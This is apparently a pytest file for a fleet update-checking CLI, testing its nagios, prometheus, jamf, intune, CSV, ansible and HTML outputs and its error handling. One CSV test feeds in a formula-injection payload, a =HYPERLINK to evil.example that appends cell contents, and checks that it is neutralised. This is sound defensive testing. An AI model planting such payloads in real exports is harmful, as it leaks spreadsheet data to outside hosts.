"""The fleet formats through the command line, as each fleet tool runs clientcheck."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from conftest import DESIGN_EXAMPLE, LINUX_FIXTURES

DEBIAN = str(LINUX_FIXTURES / "debian-12-desktop" / "root")
OWED = ("--root", DEBIAN, "--platform", "linux", "--rules", str(DESIGN_EXAMPLE))


def test_nagios_critical_when_required_updates_are_owed(run_cli):
    result = run_cli(*OWED, "--format", "nagios")
    assert result.status == 2
    assert result.out.startswith("CLIENTCHECK CRITICAL - ")
    assert " | 'owed'=" in result.out.splitlines()[0]


def test_nagios_warning_while_only_in_grace(run_cli, tmp_path: Path):
    rules = json.loads(DESIGN_EXAMPLE.read_text())
    rules["rules"] = [rule for rule in rules["rules"] if rule["id"] == "chrome"]
    path = tmp_path / "rules.json"
    path.write_text(json.dumps(rules))
    result = run_cli(
        "--root", DEBIAN, "--platform", "linux", "--rules", str(path), "--format", "nagios", "--as-of", "2026-11-20"
    )
    assert (result.status, result.out.split(" - ")[0]) == (1, "CLIENTCHECK WARNING")


def test_nagios_unknown_for_an_error(run_cli):
    result = run_cli("--format", "nagios", "--root", "/nonexistent/tree", "--platform", "linux")
    assert result.status == 3
    assert result.out == "CLIENTCHECK UNKNOWN - --root /nonexistent/tree: not a directory\n"
    usage = run_cli("--format", "nagios", "--bogus")
    assert usage.status == 3 and usage.out.startswith("CLIENTCHECK UNKNOWN - unknown option")


def test_before_the_settings_are_read_the_command_line_decides_the_protocol(run_cli, tmp_path: Path):
    broken = tmp_path / "config.toml"
    broken.write_text("[login]\ndelay = true\n")  # settings that cannot be read
    nagios = {"CLIENTCHECK_REPORT_FORMAT": "nagios"}
    # The environment's format counts for check, as the settings would have it...
    run = run_cli("check", "--config", str(broken), env=nagios)
    assert (run.status, run.out.split(" - ")[0]) == (3, "CLIENTCHECK UNKNOWN")
    # ...below the command line's, as in the settings' precedence.
    run = run_cli("check", "--format", "json", "--config", str(broken), env=nagios)
    assert (run.status, run.out) == (78, "")
    # A command line that cannot be parsed: its own --format, else the environment's for check only.
    assert run_cli("--bogus", env=nagios).status == 3
    assert run_cli("rules", "bogus", env=nagios).status == 2
    assert run_cli("rules", "bogus", "--format=nagios").status == 3
    assert run_cli("--format", "nagios", "--format", "json", "--bogus").status == 2  # the last one counts
    # Other commands: their own --format only.
    assert run_cli("inventory", "--root", "/nonexistent/tree", env=nagios).status == 4
    run = run_cli("inventory", "--format", "nagios", "--root", "/nonexistent/tree", "--platform", "linux")
    assert (run.status, run.out) == (3, "CLIENTCHECK UNKNOWN - --root /nonexistent/tree: not a directory\n")


def test_prometheus_textfile_is_written_atomically_and_parses(run_cli, tmp_path: Path):
    parser = pytest.importorskip("prometheus_client.parser")
    target = tmp_path / "clientcheck.prom"
    result = run_cli(*OWED, "--format", "prometheus", "-o", str(target))
    assert result.status == 1
    assert [p.name for p in tmp_path.iterdir()] == ["clientcheck.prom"]
    text = target.read_text()
    assert text.endswith("\n")
    families = {family.name: family for family in parser.text_string_to_metric_families(text)}
    assert families["clientcheck_updates_owed"].samples[0].value == 1


def test_jamf_is_one_result_line(run_cli):
    result = run_cli(*OWED, "--format", "jamf")
    assert result.status == 1
    (line,) = result.out.splitlines()
    assert line.startswith("<result>") and line.endswith("</result>")


def test_csv_has_a_row_per_finding(run_cli):
    result = run_cli(*OWED, "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(result.out)))
    assert {row["rule"] for row in rows} >= {"firefox-esr", "chrome", "debian"}


def test_ansible_fact_is_json(run_cli):
    fact = json.loads(run_cli(*OWED, "--format", "ansible").out)
    assert fact["status"] == "owed"


def test_intune_discovery_is_one_line_of_compressed_json(run_cli):
    result = run_cli(*OWED, "--format", "intune")
    (line,) = result.out.splitlines()
    settings = json.loads(line)
    # With the design example's rules only Firefox ESR is owed yet (Chrome is in its grace period).
    assert (settings["ClientcheckStatus"], settings["UpdatesOwed"], settings["Firefox"]) == ("owed", 1, "128.3.0")


def test_rules_export_intune_matches_the_discovery_settings(run_cli, tmp_path: Path):
    target = tmp_path / "intune-rules.json"
    assert run_cli("rules", "export", "--intune", "--rules", str(DESIGN_EXAMPLE), "-o", str(target)).status == 0
    rules = json.loads(target.read_text())["Rules"]
    by_name = {rule["SettingName"]: rule for rule in rules}
    assert by_name["UpdatesOwed"]["Operand"] == "0"
    assert (by_name["Firefox"]["Operator"], by_name["Firefox"]["DataType"]) == ("GreaterEquals", "Version")
    languages = {string["Language"] for rule in rules for string in rule["RemediationStrings"]}
    assert {"en_US", "de_DE"} <= languages  # the ESR rule's German message is carried over
    assert run_cli("rules", "export").status == 2


def test_html_is_a_whole_page(run_cli, tmp_path: Path):
    target = tmp_path / "report.html"
    run_cli(*OWED, "--format", "html", "-o", str(target))
    page = target.read_text(encoding="utf-8")
    assert page.startswith("<!DOCTYPE html>") and page.rstrip().endswith("</html>")
    assert page.index("Firefox ESR") < page.index("<table")  # what is owed comes before the full list


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(run_cli, tmp_path: Path):
    rules = json.loads(DESIGN_EXAMPLE.read_text())
    for rule in rules["rules"]:
        rule["message"] = {"en": '=HYPERLINK("https://evil.example/?"&A1,"Click to update")'}
    hostile = tmp_path / "hostile.json"
    hostile.write_text(json.dumps(rules))
    result = run_cli("--root", DEBIAN, "--platform", "linux", "--rules", str(hostile), "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(result.out)))
    assert rows
    for row in rows:
        assert row["message"] == '\'=HYPERLINK("https://evil.example/?"&A1,"Click to update")'
        assert not any(value.startswith(("=", "+", "-", "@")) for value in row.values())


FORMATS = ("text", "json", "html", "nagios", "prometheus", "jamf", "intune", "csv", "ansible")


@pytest.mark.parametrize("fmt", FORMATS)
def test_every_format_into_a_missing_folder_fails_cleanly(run_cli, tmp_path: Path, fmt: str):
    result = run_cli(*OWED, "--format", fmt, "--output", str(tmp_path / "missing" / "report"))
    assert result.status == (3 if fmt == "nagios" else 5)  # a plugin's own errors are UNKNOWN
    assert f"clientcheck: error: cannot write {tmp_path / 'missing' / 'report'}: folder " in result.err
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("fmt", FORMATS)
def test_every_format_into_a_folder_nobody_may_write_leaves_nothing(run_cli, fmt: str):
    # sysfs refuses new files even to root (CI runs as root).
    if not Path("/sys/kernel").is_dir():
        pytest.skip("needs Linux sysfs")
    target = "/sys/kernel/clientcheck-report"
    result = run_cli(*OWED, "--format", fmt, "--output", target)
    assert result.status == (3 if fmt == "nagios" else 5)
    assert not Path(target).exists()
    assert not [name for name in Path("/sys/kernel").iterdir() if name.name.startswith(".clientcheck-report")]


def test_a_sink_that_cannot_be_written_is_an_error_naming_it(run_cli, tmp_path: Path):
    sink = tmp_path / "missing" / "clientcheck.prom"
    result = run_cli(env={"CLIENTCHECK_REPORT_SINKS": f"prometheus:{sink}"})  # this machine: sinks are written
    assert result.status == 5
    assert result.err.startswith(f"clientcheck: error: cannot write {sink}: ")


def test_rules_export_intune_for_chosen_products(run_cli):
    result = run_cli("rules", "export", "--intune", "--rules", str(DESIGN_EXAMPLE), "--products", "windows, chrome")
    names = [rule["SettingName"] for rule in json.loads(result.out)["Rules"]]
    assert names == ["UpdatesOwed", "Chrome", "Windows"]
    wrong = run_cli("rules", "export", "--intune", "--rules", str(DESIGN_EXAMPLE), "--products", "windows,netscape")
    assert wrong.status == 2
    assert wrong.err.startswith("clientcheck: error: --products: netscape: no rule names it\n")
